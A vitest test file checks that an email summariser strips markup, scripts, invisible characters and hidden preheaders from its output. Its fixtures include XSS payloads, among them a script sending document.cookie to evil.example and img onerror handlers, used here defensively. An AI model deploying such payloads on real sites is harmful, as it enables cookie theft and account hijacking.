import { describe, expect, it } from 'vitest';
import { toMarkdown } from '../../cli/markdown';
import {
  briefStrings,
  htmlSnapshot,
  page,
  summariseOk,
  summaryStrings,
  textSnapshot,
} from './support';

// Text from the email is data: markup in the email never turns into markup in the Summary, text
// that looks like markup stays exactly that text, and what the reader cannot see (zero-width and
// bidi controls, soft hyphens, hidden preheaders) never reaches the brief.

/**
 * Invisible or direction-overriding characters that must not reach the reader-facing text. Left
 * out on purpose: ZWJ/ZWNJ (U+200C/D), which join emoji sequences and shape Persian and Indic
 * words, and the LRM/RLM marks (U+200E/F), which real right-to-left text needs.
 */
const INVISIBLE = new RegExp(
  // Combining marks (U+034F, U+1160, U+17B4/5) sit outside the class, where they cannot merge.
  '[\\u00ad\\u061c\\u115f\\u180e\\u200b\\u202a-\\u202e\\u2060-\\u2064\\u2066-\\u2069\\u3164\\ufeff\\uffa0]|\\u034f|\\u1160|\\u17b4|\\u17b5',
  'u',
);

/** An element as markup: `<b>`, `</p>`, `<img src=…>`, `<a href=…>` (not "a < b" or "<3"). */
const TAG =
  /<\/?(?:a|b|i|u|p|br|em|strong|span|div|font|img|script|style|table|td|tr|h[1-6]|blockquote|q|svg|iframe)\b[^>]*>/i;

const LEAD =
  'Hospital workers at three systems say they will walk out together on March 12 unless safe staffing ratios are written into their contracts this spring.';

describe('markup in the email stays out of the Summary', () => {
  it('inline markup inside quotes, headings and paragraphs is flattened to text', () => {
    const html = page(`
      <h1>Hospital <b>workers</b> set a <i>strike</i> date</h1>
      <p><em>Nurses, techs and dietary aides</em> will <a href="https://example.org/x">walk out</a> together.</p>
      <p>${LEAD}</p>
      <p>“We are <b>not</b> walking out on our patients, we are walking out <i>for</i> them,” said <span style="color:red">Teodora Villanueva</span>, a nurse.</p>
      <blockquote><p>“Lining up the dates was <strong>the whole strategy</strong> from the very first meeting,” said Grant Abernathy.</p></blockquote>`);
    const s = summariseOk(htmlSnapshot(html));
    for (const { where, text } of summaryStrings(s)) expect(text, where).not.toMatch(TAG);
    expect(s.headline).toBe('Hospital workers set a strike date');
  });

  it('text that looks like markup stays verbatim text (escaped in the source)', () => {
    const shown = '<script>alert(1)</script>';
    const html = page(`
      <h1>Why the form broke</h1>
      <p>Members who typed &lt;script&gt;alert(1)&lt;/script&gt; into the old dues form found that it ran, which is why the union replaced the form this week.</p>
      <p>${LEAD}</p>`);
    const s = summariseOk(htmlSnapshot(html));
    const carrying = summaryStrings(s).filter(({ text }) => text.includes('alert(1)'));
    expect(carrying.length, 'the sentence should reach the brief').toBeGreaterThan(0);
    for (const { where, text } of carrying) expect(text, where).toContain(shown);
  });

  it('scripts, styles and event handlers in the email leave no trace in the Summary', () => {
    const html = page(
      `<h1 onclick="steal()">Budget night</h1>
       <script>document.location='https://evil.example/?c='+document.cookie</script>
       <style>.x{background:url(javascript:alert(1))}</style>
       <p onmouseover="alert(2)">${LEAD}</p>
       <svg><script>alert(3)</script></svg><iframe src="https://evil.example/frame"></iframe>
       <noscript><p>Enable scripts to read this brief properly, please do it now.</p></noscript>`,
      '<script>alert(4)</script><style>p{}</style>',
    );
    const s = summariseOk(htmlSnapshot(html));
    for (const { where, text } of summaryStrings(s)) {
      expect(text, where).not.toMatch(/alert\(|steal\(|document\.cookie|background:url/);
    }
    expect(s.links.map((l) => l.url).join(' ')).not.toContain('evil.example');
  });

  // The CLI's Markdown goes into notes apps and docs that render inline HTML; text from the email
  // that looks like a tag must come out escaped there too.
  it('the Markdown brief does not turn text that looks like HTML into HTML', () => {
    const html = page(
      `<h1>&lt;img src=x onerror=alert(1)&gt; New dues form</h1><p>Type &lt;b&gt;your name&lt;/b&gt; into the new dues form, then press the button marked send and wait.</p><p>${LEAD}</p>`,
    );
    const md = toMarkdown(summariseOk(htmlSnapshot(html)));
    expect(md).not.toMatch(/<img\b/i);
    expect(md).not.toMatch(/<b>/i);
  });
});

describe('what the reader cannot see stays out of the brief', () => {
  it('zero-width, soft hyphen and bidi control characters are removed from the brief', () => {
    const html = page(`
      <h1>Hos\u00adpital\u200b work\u2063ers\u2060 set a \u202estrike\u202c date\ufeff</h1>
      <p><i>Nurses\u2062 and techs\u2066 will walk out\u2069 together.</i></p>
      <p>${LEAD.replace(/ /g, ' \u200b')}</p>
      <p>“We are not walking\u00ad out on our patients, we are walking out for them,” said Teo\u200bdora Villa\u00adnueva, a nurse.</p>`);
    const s = summariseOk(htmlSnapshot(html));
    for (const { where, text } of briefStrings(s)) expect(text, where).not.toMatch(INVISIBLE);
    expect(s.headline).toBe('Hospital workers set a strike date');
  });

  // Stripping must not go too far: ZWJ holds emoji sequences together and ZWNJ is spelling in
  // Persian and several Indic scripts.
  it('keeps the joiners that real text needs (emoji sequences, Persian)', () => {
    const family = '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}';
    const persian = 'می\u200cخواهیم';
    const html = page(
      `<h1>${family} Family day at the union hall</h1><p>${LEAD}</p><p lang="fa">ما ${persian} که همه بیایند و با هم صحبت کنیم.</p>`,
    );
    const s = summariseOk(htmlSnapshot(html));
    expect(s.headline).toContain(family);
    const all = summaryStrings(s).map((x) => x.text);
    for (const t of all) if (t.includes('خواهیم')) expect(t).toContain(persian);
  });

  it('the same characters in a text email are removed too', () => {
    const text = [
      'HOS\u00adPITAL WORK\u200bERS SET A STRIKE DATE',
      '',
      LEAD.replace(/ /g, ' \u200b\u2060'),
      '',
      '“We are not walking out on our patients, we are walking out for them,” said Teo\u200bdora Villa\u00adnueva.',
    ].join('\n');
    const s = summariseOk(textSnapshot(text));
    for (const { where, text: t } of briefStrings(s)) expect(t, where).not.toMatch(INVISIBLE);
  });

  it.each([
    ['display:none', '<div style="display:none">SECRET preview words here</div>'],
    [
      'Mailchimp preview text',
      '<span class="mcnPreviewText" style="display:none; font-size:0px; line-height:0px; max-height:0px; max-width:0px; opacity:0; overflow:hidden; visibility:hidden; mso-hide:all;">SECRET preview words here</span>',
    ],
    [
      'Substack-style preview',
      '<div class="preview" style="font-size:1px;color:#333333;line-height:1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">SECRET preview words here</div>',
    ],
    ['upper-case style', '<div style="DISPLAY: NONE !important">SECRET preview words here</div>'],
    ['visibility:hidden', '<p style="visibility : hidden">SECRET preview words here</p>'],
    ['hidden attribute', '<div hidden>SECRET preview words here</div>'],
    ['mso-hide', '<div style="mso-hide:all">SECRET preview words here</div>'],
    ['preheader class', '<td class="preheader">SECRET preview words here</td>'],
    [
      'padding of invisible joiners',
      '<div style="display:none">SECRET preview words here&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;</div>',
    ],
  ])('a hidden preheader (%s) does not leak', (_name, preheader) => {
    const html = page(
      `${preheader}<h1>Hospital workers set a strike date</h1><p>${LEAD}</p><p>${LEAD}</p>`,
    );
    const s = summariseOk(htmlSnapshot(html));
    for (const { where, text } of summaryStrings(s)) expect(text, where).not.toContain('SECRET');
    expect(s.headline).toBe('Hospital workers set a strike date');
  });
});
